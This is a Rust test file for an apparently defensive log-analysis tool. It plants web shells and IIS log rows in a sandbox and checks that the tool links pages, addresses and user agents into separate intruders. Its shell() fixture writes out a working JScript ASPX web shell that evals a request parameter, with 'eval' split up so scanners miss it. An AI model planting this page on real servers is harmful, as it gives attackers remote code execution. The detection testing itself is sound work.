//! What was found leads to what else belongs to it, and what belongs together reads as one intruder.

use std::collections::BTreeSet;

use hikeshi_testkit::Sandbox;
use serde_json::Value;

use crate::reports::{host, is_followed, rules, text, verdict};

const WEB_HEAD: &str =
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\n";
const BROWSER: &str = "Mozilla/5.0+(Windows+NT+10.0)+Kamome/1.0";
const OWN_BROWSER: &str = "Mozilla/5.0+(Windows+NT+6.1)+Umineko/77.1";

/// A page that runs what it is sent. The words stand apart so that no scanner takes this file for one.
fn shell() -> String {
    format!("<%@ Page Language=\"Jscript\"%><%{}(Request.Item[\"k\"],\"unsafe\");%>", ["ev", "al"].concat())
}

/// One row of the web server's log on 3 March 2021.
fn row(time: &str, method: &str, stem: &str, address: &str, agent: &str, status: u16) -> String {
    format!("2021-03-03 {time} 192.0.2.10 {method} {stem} - 443 - {address} {agent} {status}\n")
}

/// Two intruders, each with pages of his own, and somebody who only tries.
pub(crate) fn two_intruders() -> Sandbox {
    let rows = [
        row("01:00:00", "GET", "/kamome/", "198.51.100.1", BROWSER, 200),
        row("02:00:00", "GET", "/autodiscover/autodiscover.xml", "203.0.113.1", BROWSER, 401),
        row("02:10:00", "POST", "/aspnet_client/system_web/umi.aspx", "203.0.113.1", OWN_BROWSER, 200),
        row("02:20:00", "POST", "/aspnet_client/system_web/umi.aspx", "203.0.113.2", OWN_BROWSER, 200),
        row("02:30:00", "GET", "/kamome/index.htm", "203.0.113.2", OWN_BROWSER, 200),
        row("02:40:00", "GET", "/elsewhere/", "203.0.113.3", OWN_BROWSER, 200),
        row("05:00:00", "POST", "/aspnet_client/yama.aspx", "203.0.113.9", "tool/1.0", 200),
        row("05:01:00", "GET", "/aspnet_client/yama.aspx", "198.51.100.77", "checker/1.0", 200),
        row("06:00:00", "GET", "/aspnet_client/kawa.aspx", "198.51.100.99", "checker/1.0", 404),
    ];
    let root = "server/C/inetpub";
    host()
        .file(&format!("{root}/logs/LogFiles/W3SVC1/u_ex210303.log"), format!("{WEB_HEAD}{}", rows.concat()))
        .file(&format!("{root}/wwwroot/aspnet_client/system_web/umi.aspx"), shell())
        .file(&format!("{root}/wwwroot/aspnet_client/yama.aspx"), shell())
}

fn report(host: &Sandbox) -> Value {
    host.hikeshi("check server --format json").json()
}

fn actors<'r>(report: &'r Value, kind: &str) -> Vec<&'r Value> {
    report["actors"].as_array().unwrap().iter().filter(|actor| actor["kind"] == kind).collect()
}

fn texts(value: &Value) -> Vec<String> {
    value.as_array().unwrap().iter().map(text).collect()
}

#[test]
fn a_page_leads_to_addresses_and_these_to_everything_else_they_did() {
    let report = report(&two_intruders());
    assert_eq!(verdict(&report), "compromised");
    let lines = |name: &str| -> BTreeSet<u64> {
        let findings = report["findings"].as_array().unwrap().iter();
        let of_rule = findings.filter(|finding| finding["rule"]["name"] == name);
        of_rule.filter_map(|finding| finding["evidence"]["line"].as_u64()).collect()
    };
    assert_eq!(lines("follow-page-used:system_web/umi.aspx"), BTreeSet::from([4, 5]));
    assert_eq!(lines("follow-page-answered:aspnet_client/yama.aspx"), BTreeSet::from([9]));
    assert_eq!(lines("follow-address-named:203.0.113.1"), BTreeSet::from([3, 4]));
    assert_eq!(lines("follow-address-named:203.0.113.2"), BTreeSet::from([5, 6]));
    assert!(!rules(&report).iter().any(|rule| is_followed(rule)));
}

#[test]
fn intruders_are_told_apart_and_a_look_at_a_page_makes_none() {
    let report = report(&two_intruders());
    let intruders = actors(&report, "intruder");
    let seen: Vec<_> = intruders.iter().map(|actor| (texts(&actor["addresses"]), texts(&actor["pages"]))).collect();
    let own = |texts: &[&str]| texts.iter().map(|text| (*text).to_owned()).collect::<Vec<_>>();
    assert_eq!(
        seen,
        [
            (own(&["203.0.113.1", "203.0.113.2"]), own(&["system_web/umi.aspx"])),
            (own(&["203.0.113.9"]), own(&["aspnet_client/yama.aspx"])),
        ],
        "{report:#}"
    );
    assert_eq!(intruders[0]["first"], "2021-03-03T02:00:00Z", "with what they did before");
    assert_eq!(intruders[0]["last"], "2021-03-03T02:30:00Z");
    assert_eq!(texts(&intruders[1]["agents"]), ["tool/1.0"]);
}

#[test]
fn a_browser_that_others_have_too_joins_nobody() {
    let report = report(&two_intruders());
    let named = report["totals"].as_array().unwrap().iter().map(|total| text(&total["rule"]));
    let agents: BTreeSet<_> = named.filter(|name| name.starts_with("follow-agent")).collect();
    // 203.0.113.3 shows the browser of the first intruder and did nothing that counts.
    assert_eq!(agents, BTreeSet::from(["follow-agent-named:tool/1.0".to_owned()]));
}

#[test]
fn nothing_is_followed_where_nothing_worked() {
    let row = row("02:00:00", "POST", "/owa/auth/Current/themes/resources/logon.css", "203.0.113.1", BROWSER, 404);
    let host = host().file("server/u_ex210303.log", format!("{WEB_HEAD}{row}"));
    let report = report(&host);
    assert_eq!(verdict(&report), "attempted");
    assert!(!report["findings"].to_string().contains("follow-"));
    assert_eq!(actors(&report, "intruder").len(), 0);
    assert_eq!(texts(&actors(&report, "probers")[0]["addresses"]), ["203.0.113.1"]);
}

#[test]
fn what_is_too_much_to_follow_is_told() {
    let row = |number: usize| {
        let address = format!("203.0.113.{}", number % 250 + 1);
        row("02:00:00", "POST", &format!("/aspnet_client/umi{number}.aspx"), &address, "tool/1.0", 200)
    };
    let rows: String = (0..200).map(row).collect();
    let host = (0..20).fold(host(), |host, number| {
        let from = number * 10;
        let rows: String = rows.lines().skip(from).take(10).map(|row| format!("{row}\n")).collect();
        host.file(
            &format!("server/C/inetpub/logs/LogFiles/W3SVC1/u_ex2103{:02}.log", number + 1),
            format!("{WEB_HEAD}{rows}"),
        )
    });
    let report = report(&host);
    let told =
        report["reasons"].as_array().unwrap().iter().find(|reason| reason["code"] == "reason-leads-not-followed");
    // 200 pages, 200 addresses and one client, of which 120 are followed.
    assert_eq!(told.unwrap()["args"]["count"], "281");
}

/// Addresses of the intruders, when a page is first used so long after somebody else's attack worked.
fn intruders_when_used_at(time: &str) -> Vec<Vec<String>> {
    let rows = [
        row("01:10:00", "POST", "/ecp/y.js", "203.0.113.20", "tool/1.0", 241),
        row(time, "POST", "/aspnet_client/mori.aspx", "203.0.113.21", BROWSER, 200),
    ];
    let host =
        host().file("server/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", format!("{WEB_HEAD}{}", rows.concat()));
    let report = report(&host);
    actors(&report, "intruder").iter().map(|actor| texts(&actor["addresses"])).collect()
}

#[test]
fn a_page_that_is_planted_from_one_address_and_used_from_another_has_one_owner() {
    assert_eq!(intruders_when_used_at("01:11:00"), [["203.0.113.20", "203.0.113.21"]]);
    assert_eq!(intruders_when_used_at("01:31:00"), [["203.0.113.21"], ["203.0.113.20"]]);
}

#[test]
fn what_weighs_little_by_itself_weighs_more_while_an_intruder_is_at_work() {
    let odd = r#"SELL;"a storm; ""odd""""#;
    let check =
        |gate: &[&str]| crate::kamome::with_rows(&[odd], gate).hikeshi("check logs --pack pack --format json").json();
    let odd_notes = |report: &Value| -> Vec<(String, bool)> {
        let findings = report["findings"].as_array().unwrap().iter();
        let odd = findings.filter(|finding| finding["rule"]["name"] == "odd-note");
        odd.map(|finding| (text(&finding["severity"]), finding["raised"] == true)).collect()
    };
    let report = check(&["GET /crew/masterkey 200"]);
    assert_eq!(odd_notes(&report), [("medium".to_owned(), true)]);
    assert!(report["timeline"].as_array().unwrap().iter().any(|event| event["rule"] == "odd-note"));
    // Somebody who only tried makes nothing heavier, and the verdict is never moved.
    let report = check(&["GET /crew/masterkey 403"]);
    assert_eq!((verdict(&report).as_str(), odd_notes(&report)), ("attempted", vec![("low".to_owned(), false)]));
}
